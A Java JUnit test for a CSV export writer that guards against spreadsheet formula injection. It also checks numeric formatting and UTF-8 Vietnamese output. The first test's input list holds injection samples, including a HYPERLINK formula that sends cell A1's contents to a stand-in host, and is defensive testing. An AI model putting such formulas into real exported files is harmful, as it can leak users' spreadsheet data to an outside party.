package org.sipas.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvWriterTest {

    @Test
    void everyTextCellThatCouldStartAFormulaComesOutAsText() throws Exception {
        List<String> hostile = List.of("=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+84 912", "-2+3", "@SUM(A1)",
                "\tcmd", "\rcmd");
        byte[] file = CsvWriter.table(List.of("a", "b", "c", "d", "e", "f"), List.of(hostile), false);

        CSVRecord row = CSVFormat.RFC4180.parse(new StringReader(new String(file, StandardCharsets.UTF_8)))
                .getRecords().get(1);
        for (int i = 0; i < hostile.size(); i++) {
            assertThat(row.get(i)).isEqualTo("'" + hostile.get(i));
        }
    }

    @Test
    void numbersStayNumbersEvenNegativeOnes() {
        assertThat(CsvWriter.cell(-150_000L)).isEqualTo("-150000");
        assertThat(CsvWriter.cell(-0.25)).isEqualTo("-0.25");
        assertThat(CsvWriter.cell(167_600_000.0)).isEqualTo("167600000");
        assertThat(CsvWriter.cell(new BigDecimal("-1.50"))).isEqualTo("-1.50");
        // the same characters as text are text
        assertThat(CsvWriter.cell("-150000")).isEqualTo("'-150000");
    }

    @Test
    void ordinaryVietnameseTextAndEmptyCellsAreWrittenAsTheyAre() {
        byte[] file = CsvWriter.table(List.of("tên", "ghi chú"), List.of(Arrays.asList("Nguyễn Văn An", null)), true);
        assertThat(Arrays.copyOf(file, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(new String(file, 3, file.length - 3, StandardCharsets.UTF_8))
                .isEqualTo("tên,ghi chú\r\nNguyễn Văn An,\r\n");
    }
}
